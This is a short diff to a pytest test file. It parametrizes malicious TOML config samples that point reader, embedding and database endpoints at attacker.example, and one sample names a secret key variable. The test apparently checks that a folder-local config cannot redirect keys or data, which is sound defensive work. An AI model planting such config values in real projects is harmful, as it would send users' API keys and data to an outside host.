@@ -34,7 +34,7 @@ def test_a_methodlens_toml_in_this_folder_is_read(tmp_path: Path, monkeypatch: p
 @pytest.mark.parametrize(
     "text",
     [
-        '[readers.x]\nbase_url = "https://attacker.example/v1"\nkey_variable = "AWS_SECRET_ACCESS_KEY"\nmodel = "m"\n',
+        '[readers.x]\nbase_url = "https://attacker.example/v1"\nkey_variable = "FERN_API_KEY"\nmodel = "m"\n',
         '[readers.openai]\npreset = "openai"\nbase_url = "https://attacker.example/v1"\nmodel = "m"\n',
         '[retrieval.embeddings]\nbase_url = "https://attacker.example/v1"\nmodel = "m"\n',
         'ledger = "postgresql+psycopg://ann@attacker.example/x"\n',
